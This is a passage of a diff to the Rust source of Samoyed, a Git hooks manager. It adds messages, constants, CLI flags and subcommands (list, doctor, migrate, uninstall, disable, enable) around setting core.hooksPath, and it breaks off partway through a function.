@@ -11,11 +11,16 @@
 //! - Path normalization for Windows extended-length paths
 //! - Graceful handling of Git execution differences across platforms
 
-use clap::{Parser, Subcommand};
+use clap::{Parser, Subcommand, ValueEnum};
 use std::env;
+use std::fmt;
 use std::fs;
+use std::io::{self, IsTerminal, Write};
 use std::path::{Component, Path, PathBuf};
-use std::process::{Command, ExitCode};
+use std::process::{self, Command, ExitCode, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
+use std::thread;
+use std::time::Duration;
 
 #[cfg(unix)]
 use std::os::unix::fs::PermissionsExt;
@@ -27,6 +32,12 @@ use std::os::unix::fs::PermissionsExt;
 /// and executes the corresponding user-defined hook if it exists.
 const SAMOYED_WRAPPER_SCRIPT: &[u8] = include_bytes!("../assets/samoyed");
 
+/// Comment prefix that records which Samoyed version wrote the wrapper script.
+const WRAPPER_VERSION_MARKER: &str = "# samoyed-wrapper-version: ";
+
+/// Version stamped into the wrapper script, kept in sync with the crate version.
+const WRAPPER_VERSION: &str = env!("CARGO_PKG_VERSION");
+
 /// List of standard Git hook names that Samoyed manages.
 ///
 /// These are the client-side hooks that Git supports. During initialization,
@@ -54,6 +65,9 @@ const GIT_HOOKS: &[&str] = &[
 /// both the wrapper scripts (in `_/` subdirectory) and user-defined hooks.
 const DEFAULT_SAMOYED_DIR: &str = ".samoyed";
 
+/// Environment variable that overrides `DEFAULT_SAMOYED_DIR` when no dirname is given.
+const SAMOYED_DIR_VARIABLE: &str = "SAMOYED_DIR";
+
 /// Directory name for wrapper scripts within the Samoyed directory.
 const WRAPPER_DIR_NAME: &str = "_";
 
@@ -66,15 +80,42 @@ const SAMPLE_HOOK_NAME: &str = "pre-commit";
 /// Filename for the .gitignore file in the wrapper directory.
 const GITIGNORE_NAME: &str = ".gitignore";
 
+/// Lock file in the git-ignored `_` directory that `init` holds an exclusive lock on while it runs.
+const INIT_LOCK_NAME: &str = ".init.lock";
+
+/// Marker file in the wrapper directory that makes every hook exit early.
+///
+/// It lives in `_`, which is git-ignored, so disabling hooks never leaks into a commit.
+const DISABLED_MARKER_NAME: &str = "disabled";
+
+/// Content of the disable marker, explaining where it came from.
+const DISABLED_MARKER_CONTENT: &str =
+    "Created by `samoyed disable`; run `samoyed enable` to remove it.\n";
+
+/// Directory name for backups of pre-existing Git hooks within the Samoyed directory.
+const BACKUP_DIR_NAME: &str = "backup";
+
+/// Directory name for native hooks within the git common directory.
+const NATIVE_HOOKS_DIR_NAME: &str = "hooks";
+
+/// File extension Git uses for the inactive sample hooks it installs.
+const SAMPLE_HOOK_EXTENSION: &str = "sample";
+
 /// Message displayed when SAMOYED=0 environment variable bypasses initialization.
 const MSG_BYPASS_INIT: &str = "Bypassing samoyed init due to SAMOYED=0";
 
+/// Message displayed when SAMOYED=0 bypasses `samoyed reinstall`.
+const MSG_BYPASS_REINSTALL: &str = "Bypassing samoyed reinstall due to SAMOYED=0";
+
 /// Error message when git command execution fails.
 const ERR_FAILED_EXECUTE_GIT: &str = "Error: Failed to execute git command";
 
 /// Error message when current directory is not a git repository.
 const ERR_NOT_GIT_REPO: &str = "Error: Not a git repository";
 
+/// Detail appended to `ERR_NOT_GIT_REPO` when a `.git` file links to a missing gitdir.
+const ERR_BROKEN_GIT_LINK: &str = "points to a gitdir that does not exist";
+
 /// Error message when git root directory cannot be determined.
 const ERR_FAILED_GET_GIT_ROOT: &str = "Error: Failed to get git root directory";
 
@@ -93,6 +134,12 @@ const ERR_INVALID_HOOKS_PATH: &str = "Error: Invalid path for hooks directory";
 /// Error message when path canonicalization fails.
 const ERR_UNABLE_RESOLVE_PATH: &str = "Error: Unable to resolve path";
 
+/// Error message when resolving a path follows too many symbolic links.
+const ERR_TOO_MANY_SYMLINKS: &str = "Error: Too many levels of symbolic links";
+
+/// Maximum number of dangling symbolic links followed while resolving a path.
+const MAX_SYMLINK_DEPTH: usize = 40;
+
 /// Error message when parent path resolution fails.
 const ERR_UNABLE_RESOLVE_PARENT: &str = "Error: Unable to resolve parent path";
 
@@ -114,15 +161,21 @@ const ERR_FAILED_CREATE_SAMOYED_DIR: &str = "Error: Failed to create samoyed dir
 /// Error prefix when wrapper directory creation fails.
 const ERR_FAILED_CREATE_WRAPPER_DIR: &str = "Error: Failed to create _ directory";
 
+/// Error prefix when the init lock file cannot be opened or locked.
+const ERR_FAILED_LOCK: &str = "Error: Failed to lock";
+
+/// Error message when another `init` holds the lock on the same samoyed directory.
+const ERR_INIT_LOCKED: &str = "Error: Another samoyed init is running in this repository";
+
 /// Error prefix when wrapper script write fails.
 const ERR_FAILED_WRITE_WRAPPER: &str = "Error: Failed to write wrapper script";
 
 /// Error prefix when file metadata retrieval fails.
-#[cfg(unix)]
+#[cfg(any(unix, windows))]
 const ERR_FAILED_GET_METADATA: &str = "Error: Failed to get file metadata";
 
 /// Error prefix when file permission setting fails.
-#[cfg(unix)]
+#[cfg(any(unix, windows))]
 const ERR_FAILED_SET_PERMISSIONS: &str = "Error: Failed to set file permissions";
 
 /// Error prefix when hook script write fails.
@@ -140,6 +193,191 @@ const ERR_FAILED_CANONICALIZE_SAMOYED: &str = "Error: Failed to canonicalize sam
 /// Error prefix when .gitignore file write fails.
 const ERR_FAILED_WRITE_GITIGNORE: &str = "Error: Failed to write .gitignore";
 
+/// Error prefix when core.hooksPath is already set to a non-Samoyed directory.
+const ERR_HOOKS_PATH_CONFLICT: &str = "Error: core.hooksPath is already set by another tool";
+
+/// Error message when core.hooksPath was written but another config source wins.
+const ERR_HOOKS_PATH_NOT_APPLIED: &str = "Error: core.hooksPath did not take effect";
+
+/// Error message when reading core.hooksPath configuration fails.
+const ERR_FAILED_GET_HOOKS_PATH: &str = "Error: Failed to read core.hooksPath";
+
+/// Error message when unsetting core.hooksPath configuration fails.
+const ERR_FAILED_UNSET_HOOKS_PATH: &str = "Error: Failed to unset core.hooksPath";
+
+/// Error prefix when removing a Samoyed directory fails.
+const ERR_FAILED_REMOVE_DIR: &str = "Error: Failed to remove directory";
+
+/// Error message when `--purge` would remove the repository root itself.
+const ERR_PURGE_GIT_ROOT: &str = "Error: Refusing to purge the git repository root";
+
+/// Error message when `uninstall` finds core.hooksPath pointing somewhere Samoyed did not configure.
+const ERR_FOREIGN_HOOKS_PATH: &str =
+    "Error: core.hooksPath does not point to the Samoyed hooks directory; nothing was removed";
+
+/// Warning shown by `uninstall --force` when core.hooksPath points somewhere Samoyed did not configure.
+const WARN_FOREIGN_HOOKS_PATH: &str =
+    "Warning: core.hooksPath does not point to the Samoyed hooks directory; leaving it unchanged";
+
+/// Warning shown by `init --check-git-identity` when Git has no user identity.
+const WARN_GIT_IDENTITY_MISSING: &str =
+    "Warning: Git user identity is not configured; hooks that create commits may fail";
+
+/// Error message when `init --check-git-identity --strict` finds no user identity.
+const ERR_GIT_IDENTITY_MISSING: &str = "Error: Git user identity is not configured";
+
+/// Warning shown when the `init --post-install` command fails.
+const WARN_POST_INSTALL_FAILED: &str = "Warning: post-install command failed";
+
+/// Error message when the `init --post-install` command fails under `--strict`.
+const ERR_POST_INSTALL_FAILED: &str = "Error: post-install command failed";
+
+/// Warning shown when the installed Git predates core.hooksPath.
+const WARN_GIT_TOO_OLD: &str =
+    "Warning: Git is older than 2.9 and ignores core.hooksPath; hooks will not run";
+
+/// Oldest Git release that honors core.hooksPath.
+const MIN_GIT_VERSION: GitVersion = GitVersion {
+    major: 2,
+    minor: 9,
+    patch: 0,
+};
+
+/// Warning shown by `init` when another hook manager is configured in the repository.
+const WARN_OTHER_HOOK_MANAGERS: &str =
+    "Warning: Other Git hook managers are configured and may fight over core.hooksPath";
+
+/// Error message when `init --strict` finds another hook manager.
+const ERR_OTHER_HOOK_MANAGERS: &str = "Error: Other Git hook managers are configured";
+
+/// Files and directories, relative to the git root, that mark another hook manager.
+const OTHER_HOOK_MANAGERS: &[(&str, &str)] = &[
+    (HUSKY_DIR_NAME, "Husky"),
+    ("lefthook.yml", "Lefthook"),
+    ("lefthook.yaml", "Lefthook"),
+    (".lefthook.yml", "Lefthook"),
+    (".pre-commit-config.yaml", "pre-commit"),
+];
+
+/// Git config keys that make up the user identity recorded in commits.
+const GIT_IDENTITY_KEYS: &[&str] = &["user.name", "user.email"];
+
+/// Message displayed when uninstall finds nothing to remove.
+const MSG_NOTHING_TO_UNINSTALL: &str = "Nothing to uninstall";
+
+/// Message displayed when `samoyed disable` turns hooks off.
+const MSG_HOOKS_DISABLED: &str =
+    "Samoyed hooks are disabled in this repository; run `samoyed enable` to turn them back on";
+
+/// Message displayed when `samoyed enable` turns hooks back on.
+const MSG_HOOKS_ENABLED: &str = "Samoyed hooks are enabled";
+
+/// Error message when enable/disable runs before `samoyed init`.
+const ERR_NOT_INSTALLED: &str = "Error: Samoyed is not installed; run `samoyed init` first";
+
+/// Message displayed after `samoyed reinstall`, followed by the samoyed directory.
+const MSG_REINSTALLED: &str = "Refreshed Samoyed hooks in";
+
+/// Error message when the disable marker cannot be created.
+const ERR_FAILED_WRITE_MARKER: &str = "Error: Failed to write disable marker";
+
+/// Error message when the disable marker cannot be removed.
+const ERR_FAILED_REMOVE_MARKER: &str = "Error: Failed to remove disable marker";
+
+/// Error message when the `--cwd` directory cannot be entered.
+const ERR_FAILED_CHANGE_DIR: &str = "Error: Failed to change to directory";
+
+/// Error message when the git common directory cannot be determined.
+const ERR_FAILED_GET_GIT_COMMON_DIR: &str = "Error: Failed to get git common directory";
+
+/// Error prefix when reading the native hooks directory fails.
+const ERR_FAILED_READ_NATIVE_HOOKS: &str = "Error: Failed to read existing Git hooks";
+
+/// Error prefix when backing up a pre-existing Git hook fails.
+const ERR_FAILED_BACKUP_HOOK: &str = "Error: Failed to back up existing Git hook";
+
+/// Notice prefix when `init --reset-samples` replaces a customized pre-commit hook.
+const MSG_RESET_SAMPLE: &str = "Notice: Replaced with the sample pre-commit hook:";
+
+/// Notice prefix when pre-existing Git hooks were backed up during init.
+const MSG_BACKED_UP_HOOKS: &str =
+    "Notice: Backed up existing Git hooks that core.hooksPath will bypass";
+
+/// Error prefix for a `--hooks` entry that is not a Git hook Samoyed manages.
+const ERR_UNKNOWN_HOOK: &str = "Error: Unknown hook";
+
+/// Error prefix for an `--extra-hooks` entry that cannot be used as a hook name.
+const ERR_INVALID_EXTRA_HOOK: &str = "Error: Invalid extra hook";
+
+/// Warning shown when `init --extra-hooks` installs hooks that Git does not know about.
+const WARN_EXTRA_HOOKS: &str = "Warning: Installing non-standard hooks; Git never runs these itself, so call them from your own tooling";
+
+/// Error message when `--shell` is not a plain command name or absolute path.
+const ERR_INVALID_SHELL: &str = "Error: Invalid shell";
+
+/// Interpreter used for generated hooks when `--shell` is not given.
+const DEFAULT_HOOK_SHELL: &str = "sh";
+
+/// Variable a hook script sets to tell the wrapper which shell runs the user hook.
+const HOOK_SHELL_VARIABLE: &str = "samoyed_shell";
+
+/// Error prefix when one or more doctor checks fail.
+const ERR_DOCTOR_CHECKS_FAILED: &str = "Error: Samoyed doctor found problems";
+
+/// Hint shown when re-running init would fix a doctor finding.
+const HINT_RUN_INIT: &str = "run `samoyed init` to (re)install the hooks";
+
+/// Hint shown when active hooks remain in `.git/hooks`.
+const HINT_NATIVE_HOOKS: &str = "remove them, or move their logic into the samoyed directory (copies are in its backup/ after init)";
+
+/// Directory Husky keeps its hook scripts in.
+const HUSKY_DIR_NAME: &str = ".husky";
+
+/// Message shown when there is nothing to migrate from Husky.
+const MSG_NO_HUSKY_DIR: &str = "No .husky directory found; nothing to migrate";
+
+/// Error prefix when the .husky directory cannot be read.
+const ERR_FAILED_READ_HUSKY: &str = "Error: Failed to read .husky directory";
+
+/// Error prefix when a Husky hook cannot be copied into the samoyed directory.
+const ERR_FAILED_MIGRATE_HOOK: &str = "Error: Failed to migrate Husky hook";
+
+/// Error prefix when the samoyed directory to rename does not exist.
+const ERR_RENAME_SOURCE_MISSING: &str = "Error: Samoyed directory does not exist";
+
+/// Error prefix when the rename target already exists.
+const ERR_RENAME_TARGET_EXISTS: &str = "Error: Target directory already exists";
+
+/// Error message when the rename would move the repository root or nest the directory in itself.
+const ERR_RENAME_INVALID_TARGET: &str = "Error: Cannot move the samoyed directory to that location";
+
+/// Error prefix when moving the samoyed directory fails.
+const ERR_FAILED_RENAME_DIR: &str = "Error: Failed to move samoyed directory";
+
+/// Error prefix when moving the samoyed directory back after a failure fails too.
+const ERR_FAILED_RENAME_ROLLBACK: &str = "Error: Failed to move samoyed directory back";
+
+/// Note appended to a rename error once the directory was moved back.
+const MSG_RENAME_ROLLED_BACK: &str = "the samoyed directory was moved back";
+
+/// Notice shown on stderr when init runs inside a linked worktree.
+const MSG_LINKED_WORKTREE: &str = "Notice: core.hooksPath is shared by every worktree of this repository; run `samoyed init` in each worktree so its hooks directory exists";
+
+/// Error message when the worktree's git directory cannot be determined.
+const ERR_FAILED_GET_GIT_DIR: &str = "Error: Failed to get git directory";
+
+/// Number of times a git config write is retried while the config file is locked.
+const GIT_CONFIG_LOCK_RETRIES: u32 = 3;
+
+/// Delay before the first retry of a locked git config write; doubles on each retry.
+const GIT_CONFIG_LOCK_BACKOFF_MS: u64 = 50;
+
+/// Text git prints when another process holds the config file lock.
+const GIT_CONFIG_LOCK_MESSAGE: &str = "could not lock config file";
+
+/// Maximum number of characters shown in a hook script preview.
+const PREVIEW_MAX_CHARS: usize = 50;
+
 /// Shell script template for Git hooks that sources the Samoyed wrapper.
 const HOOK_SCRIPT_TEMPLATE: &str = r#"#!/usr/bin/env sh
 . "$(dirname "$0")/samoyed"
@@ -155,1194 +393,7029 @@ const SAMPLE_PRE_COMMIT_CONTENT: &str = r#"#!/usr/bin/env sh
 /// Gitignore pattern that excludes all files in the wrapper directory.
 const GITIGNORE_CONTENT: &str = "*\n";
 
+/// Unix permission mode for hook scripts that Git executes directly.
+const EXECUTABLE_MODE: u32 = 0o755;
+
+/// Unix permission mode for files that are sourced or edited, not executed.
+const REGULAR_FILE_MODE: u32 = 0o644;
+
+/// Suffix of the temporary file a generated file is written to before being renamed into place.
+const TEMP_FILE_SUFFIX: &str = ".tmp";
+
+/// Git configuration key that points Git at the wrapper directory.
+const HOOKS_PATH_CONFIG_KEY: &str = "core.hooksPath";
+
+/// SHA-256 round constants (first 32 bits of the fractional parts of the cube
+/// roots of the first 64 primes).
+const SHA256_K: [u32; 64] = [
+    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
+    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
+    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
+    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
+    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
+    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
+    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
+    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
+];
+
+/// SHA-256 initial hash values (first 32 bits of the fractional parts of the
+/// square roots of the first 8 primes).
+const SHA256_H0: [u32; 8] = [
+    0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
+];
+
 /// Command-line interface for Samoyed.
 ///
 /// Samoyed is a modern, minimal, safe, ultra-fast, cross-platform Git hooks manager
 /// that simplifies client-side Git hook management with a single-binary tool.
 #[derive(Parser)]
 #[command(name = "samoyed")]
-#[command(author, version, about, long_about = None)]
+#[command(author, version, about, long_about = None, disable_version_flag = true)]
 struct Cli {
     #[command(subcommand)]
     command: Option<Commands>,
+
+    /// Print version (with --verbose, also the commit, build date and target)
+    #[arg(short = 'V', long)]
+    version: bool,
+
+    /// Print the Git hooks Samoyed can manage, with a short description of each
+    #[arg(long)]
+    list_hooks: bool,
+
+    /// Only print errors
+    #[arg(long, global = true, conflicts_with = "verbose")]
+    quiet: bool,
+
+    /// Also print each change made
+    #[arg(long, global = true)]
+    verbose: bool,
+
+    /// Run as if samoyed was started in DIR instead of the current directory
+    #[arg(long, global = true, value_name = "DIR")]
+    cwd: Option<PathBuf>,
+}
+
+/// How much Samoyed prints, selected with `--quiet` / `--verbose`.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Verbosity {
+    /// Errors only
+    Quiet = 0,
+    /// Errors, warnings and informational messages
+    Normal = 1,
+    /// Everything, including debug messages
+    Verbose = 2,
+}
+
+/// Verbosity for the current process, set once from the CLI flags in `main`.
+static VERBOSITY: AtomicU8 = AtomicU8::new(Verbosity::Normal as u8);
+
+/// Send informational messages to stderr, set in `main` when stdout carries JSON.
+static INFO_TO_STDERR: AtomicBool = AtomicBool::new(false);
+
+/// Severity of a message printed through `log`.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum LogLevel {
+    /// A command failed
+    Error,
+    /// Something the user should notice, but not a failure
+    Warn,
+    /// Regular progress output
+    Info,
+    /// Details shown with `--verbose`
+    Debug,
+}
+
+impl LogLevel {
+    /// Whether messages of this level are printed at the given verbosity.
+    fn is_enabled(self, verbosity: Verbosity) -> bool {
+        match self {
+            LogLevel::Error => true,
+            LogLevel::Warn | LogLevel::Info => verbosity >= Verbosity::Normal,
+            LogLevel::Debug => verbosity == Verbosity::Verbose,
+        }
+    }
+
+    /// ANSI SGR code used to color messages of this level, if any.
+    fn ansi_code(self) -> Option<&'static str> {
+        match self {
+            LogLevel::Error => Some("31"),
+            LogLevel::Warn => Some("33"),
+            LogLevel::Info => None,
+            LogLevel::Debug => Some("2"),
+        }
+    }
 }
 
 /// Available subcommands for the Samoyed CLI.
 ///
-/// Currently supports initialization of Git hooks in a repository.
-/// Future versions may include additional commands for hook management.
+/// Supports initializing Git hooks in a repository and removing them again.
 #[derive(Subcommand)]
 enum Commands {
     /// Initialize Samoyed in the current git repository
     Init {
-        /// Directory name for Samoyed hooks (default: .samoyed)
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
         #[arg(value_name = "samoyed-dirname")]
         dirname: Option<String>,
-    },
-}
 
-/// Main entry point for Samoyed
-///
-/// Parses command-line arguments and dispatches to appropriate handlers.
-/// If no command is provided, displays the help message and returns a success exit code.
-fn main() -> ExitCode {
-    match Cli::parse().command {
-        Some(Commands::Init { dirname }) => {
-            let dirname = dirname.unwrap_or_else(|| DEFAULT_SAMOYED_DIR.to_string());
-            init_samoyed(&dirname).map_or_else(
-                |err| {
-                    eprintln!("{err}");
-                    ExitCode::FAILURE
-                },
-                |_| ExitCode::SUCCESS,
-            )
-        }
-        None => ExitCode::SUCCESS,
-    }
-}
+        /// Report the planned actions without touching disk or git config
+        #[arg(long)]
+        dry_run: bool,
 
-/// Initialize Samoyed in the current git repository
-///
-/// This function performs the following steps:
-/// 1. Checks if SAMOYED=0 (bypass mode)
-/// 2. Verifies we're inside a git repository
-/// 3. Validates the samoyed directory path
-/// 4. Creates the directory structure
-/// 5. Copies the wrapper script
-/// 6. Creates hook scripts
-/// 7. Creates sample pre-commit hook
-/// 8. Sets git config core.hooksPath
-/// 9. Creates .gitignore in the _ directory
-///
-/// # Arguments
-///
-/// * `dirname` - The directory name for Samoyed hooks
-///
-/// # Returns
-///
-/// Returns Ok(()) on success, or an error message on failure
-fn init_samoyed(dirname: &str) -> Result<(), String> {
-    // Check for bypass mode
-    if check_bypass_mode() {
-        println!("{}", MSG_BYPASS_INIT);
-        return Ok(());
-    }
+        /// Output format for the init result or the dry-run plan
+        #[arg(long, value_enum, default_value_t = OutputFormat::Human)]
+        format: OutputFormat,
 
-    // Check if we're in a git repository
-    let git_root = get_git_root()?;
-    let current_dir =
-        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+        /// Do not back up existing hooks in .git/hooks
+        #[arg(long)]
+        no_backup: bool,
 
-    // Validate and resolve the samoyed directory path
-    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+        /// Do not create the sample pre-commit hook
+        #[arg(long)]
+        no_samples: bool,
 
-    // Create directory structure
-    create_directory_structure(&samoyed_dir)?;
+        /// Print what was installed and how to try a hook
+        #[arg(long)]
+        summary: bool,
 
-    // Copy wrapper script to _/samoyed
-    copy_wrapper_script(&samoyed_dir)?;
+        /// Exit silently without rewriting anything if Samoyed is already installed
+        #[arg(long)]
+        quiet_if_installed: bool,
 
-    // Create hook scripts in _ directory
-    create_hook_scripts(&samoyed_dir)?;
+        /// Overwrite a core.hooksPath set by another tool
+        #[arg(long)]
+        force: bool,
 
-    // Create sample pre-commit hook
-    create_sample_pre_commit(&samoyed_dir)?;
+        /// Replace an existing pre-commit in the samoyed directory with the sample
+        #[arg(long, conflicts_with = "no_samples")]
+        reset_samples: bool,
 
-    // Set git config core.hooksPath
-    set_git_hooks_path(&samoyed_dir)?;
+        /// Comma-separated list of hooks to install (default: all)
+        #[arg(long, value_delimiter = ',', value_name = "HOOKS")]
+        hooks: Option<Vec<String>>,
 
-    // Create .gitignore in _ directory
-    create_gitignore(&samoyed_dir)?;
+        /// Comma-separated list of non-standard hook names to install as well
+        #[arg(long, value_delimiter = ',', value_name = "HOOKS")]
+        extra_hooks: Vec<String>,
 
-    Ok(())
+        /// Shell that runs the hooks, e.g. bash or /bin/zsh (default: sh)
+        #[arg(long, value_name = "SHELL")]
+        shell: Option<String>,
+
+        /// Warn if git user.name or user.email is not configured
+        #[arg(long)]
+        check_git_identity: bool,
+
+        /// Shell command to run from the repository root after a successful init
+        #[arg(long, value_name = "COMMAND")]
+        post_install: Option<String>,
+
+        /// Fail instead of warning about other hook managers and on
+        /// --check-git-identity or --post-install problems
+        #[arg(long)]
+        strict: bool,
+    },
+    /// List the Git hooks Samoyed manages and how each one is configured
+    List {
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: Option<String>,
+
+        /// Output format for the listing
+        #[arg(long, value_enum, default_value_t = ListFormat::Table)]
+        format: ListFormat,
+
+        /// Print the listing as JSON (shorthand for --format json)
+        #[arg(long, conflicts_with = "format")]
+        json: bool,
+    },
+    /// Check the Samoyed setup of the current git repository
+    Doctor {
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: Option<String>,
+
+        /// Also warn about active hooks left in .git/hooks
+        #[arg(long)]
+        git_hooks_coexist: bool,
+
+        /// Verify the SHA-256 digest of every generated script in the _ directory
+        #[arg(long)]
+        verify: bool,
+    },
+    /// Import hook scripts from Husky's .husky directory and initialize Samoyed
+    Migrate {
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: Option<String>,
+    },
+    /// Manage the samoyed hooks directory
+    Hooks {
+        #[command(subcommand)]
+        command: HooksCommands,
+    },
+    /// Remove Samoyed from the current git repository
+    Uninstall {
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: Option<String>,
+
+        /// Also remove the user-authored hook scripts in the samoyed directory
+        #[arg(long)]
+        purge: bool,
+
+        /// Remove the Samoyed files even if core.hooksPath points elsewhere
+        #[arg(long)]
+        force: bool,
+    },
+    /// Rewrite the wrapper and hook scripts for the current Samoyed version
+    Reinstall,
+    /// Check that a samoyed dirname is usable, without changing anything
+    ValidateDirname {
+        /// Proposed directory name for Samoyed hooks
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: String,
+    },
+    /// Turn every Samoyed hook off in this clone until `samoyed enable`
+    Disable {
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: Option<String>,
+    },
+    /// Turn Samoyed hooks back on after `samoyed disable`
+    Enable {
+        /// Directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(value_name = "samoyed-dirname")]
+        dirname: Option<String>,
+    },
 }
 
-/// Check if SAMOYED environment variable is set to "0" (bypass mode)
-///
-/// # Returns
-///
-/// Returns true if SAMOYED=0, false otherwise
-fn check_bypass_mode() -> bool {
-    matches!(env::var("SAMOYED").as_deref(), Ok("0"))
+/// Subcommands of `samoyed hooks`.
+#[derive(Subcommand)]
+enum HooksCommands {
+    /// Move the samoyed directory and point core.hooksPath at its new location
+    Rename {
+        /// New directory name for Samoyed hooks
+        #[arg(value_name = "new-dirname")]
+        new_dirname: String,
+
+        /// Current directory name for Samoyed hooks (default: $SAMOYED_DIR, then .samoyed)
+        #[arg(long, value_name = "samoyed-dirname")]
+        from: Option<String>,
+    },
 }
 
-/// Get the root directory of the current git repository
-///
-/// Uses `git rev-parse --is-inside-work-tree` to check if we're in a git repo,
-/// and `git rev-parse --show-toplevel` to get the root directory.
-///
-/// # Returns
-///
-/// Returns the absolute path to the git root, or an error if not in a git repo
-fn get_git_root() -> Result<PathBuf, String> {
-    let output = Command::new("git")
-        .args(["rev-parse", "--is-inside-work-tree"])
-        .output()
-        .map_err(|e| format!("{}: {}", ERR_FAILED_EXECUTE_GIT, e))?;
+/// Where the behavior of a Git hook comes from.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum HookSource {
+    /// A user-editable script in the samoyed directory (e.g. `.samoyed/pre-commit`)
+    Script,
+    /// Nothing is configured; the wrapper exits successfully without doing anything
+    Unconfigured,
+}
 
-    if !output.status.success() {
-        return Err(ERR_NOT_GIT_REPO.to_string());
+impl HookSource {
+    /// Name used for this source in `samoyed list` output.
+    fn as_str(self) -> &'static str {
+        match self {
+            HookSource::Script => "script",
+            HookSource::Unconfigured => "unconfigured",
+        }
     }
+}
 
-    let inside = String::from_utf8_lossy(&output.stdout).trim().to_string();
-    if inside != "true" {
-        return Err(ERR_NOT_GIT_REPO.to_string());
-    }
+/// A row of `samoyed list` output describing one Git hook.
+#[derive(Clone, Debug, PartialEq, Eq)]
+struct HookListing {
+    /// Git hook name
+    name: &'static str,
+    /// Where the hook's behavior comes from
+    source: HookSource,
+    /// First meaningful line of the hook script, if any
+    preview: Option<String>,
+    /// Whether a wrapper is installed in the `_` directory, so Git runs the hook
+    enabled: bool,
+}
 
-    let output = Command::new("git")
-        .args(["rev-parse", "--show-toplevel"])
-        .output()
-        .map_err(|e| format!("{}: {}", ERR_FAILED_GET_GIT_ROOT, e))?;
+/// Output format for `samoyed list`.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, ValueEnum)]
+enum ListFormat {
+    /// Aligned plain-text table
+    #[default]
+    Table,
+    /// JSON array, one object per hook
+    Json,
+    /// Markdown table for pasting into documentation
+    Markdown,
+}
 
-    if !output.status.success() {
-        return Err(ERR_FAILED_GET_GIT_ROOT.to_string());
-    }
+/// Outcome of a single `samoyed doctor` check.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum CheckStatus {
+    /// The check passed
+    Ok,
+    /// Something may confuse users, but hooks still work
+    Warn,
+    /// Hooks will not work as expected; doctor exits non-zero
+    Fail,
+}
 
-    let git_root = String::from_utf8(output.stdout)
-        .map_err(|e| format!("Error: Git root path contains invalid UTF-8: {}", e))?
-        .trim()
-        .to_string();
-    Ok(PathBuf::from(git_root))
+impl CheckStatus {
+    /// Label printed in front of the check result.
+    fn label(self) -> &'static str {
+        match self {
+            CheckStatus::Ok => "[ok]",
+            CheckStatus::Warn => "[warn]",
+            CheckStatus::Fail => "[FAIL]",
+        }
+    }
 }
 
-/// Validate and resolve the samoyed directory path
-///
-/// This function resolves the provided directory name to an absolute path and validates
-/// that it is within the git repository. Handles absolute paths, relative paths with
-/// parent directory references (..), and simple directory names.
-///
-/// # Arguments
-///
-/// * `git_root` - The root directory of the git repository
-/// * `current_dir` - The current working directory
-/// * `dirname` - The proposed directory name for Samoyed
-///
-/// # Returns
-///
-/// Returns the absolute path to the samoyed directory, or an error if invalid or outside git repo
-fn validate_samoyed_dir(
-    git_root: &Path,
-    current_dir: &Path,
-    dirname: &str,
-) -> Result<PathBuf, String> {
-    let git_root_canonical = git_root
-        .canonicalize()
-        .map_err(|e| format!("{}: {}", ERR_FAILED_RESOLVE_GIT_ROOT, e))?;
+/// Result of a single `samoyed doctor` check, with an optional remediation hint.
+#[derive(Clone, Debug, PartialEq, Eq)]
+struct DoctorCheck {
+    /// Short name of what was checked
+    name: &'static str,
+    /// Whether the check passed
+    status: CheckStatus,
+    /// What was found
+    detail: String,
+    /// How to fix a warning or failure
+    hint: Option<&'static str>,
+}
 
-    let provided_path = Path::new(dirname);
+impl DoctorCheck {
+    /// Build a passing check.
+    fn ok(name: &'static str, detail: impl Into<String>) -> Self {
+        DoctorCheck {
+            name,
+            status: CheckStatus::Ok,
+            detail: detail.into(),
+            hint: None,
+        }
+    }
 
-    let candidate = if provided_path.is_absolute() {
-        provided_path.to_path_buf()
-    } else {
-        let has_parent = provided_path
-            .components()
-            .any(|component| matches!(component, Component::ParentDir));
-        if has_parent {
-            current_dir.join(provided_path)
-        } else {
-            git_root_canonical.join(provided_path)
